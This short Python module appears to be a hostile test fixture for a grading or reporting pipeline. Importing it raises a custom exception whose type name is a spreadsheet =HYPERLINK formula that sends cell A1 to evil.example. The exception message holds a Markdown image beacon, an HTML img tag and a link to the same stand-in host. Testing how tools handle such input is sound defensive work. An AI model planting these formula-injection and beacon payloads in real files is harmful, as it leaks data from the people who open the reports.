"""Its import fails with an exception written for the instructor's spreadsheet and report: its
type's name is a formula (the report's "problem" column starts with it), and its message holds a
Markdown image beacon, an HTML image and a bare link."""
Beacon = type('=HYPERLINK("http://evil.example/?leak="&A1,"open me")', (ImportError,), {})
raise Beacon('![beacon](http://evil.example/beacon.png) <img src="http://evil.example/i.png"> '
             'www.evil.example | injected | cell')
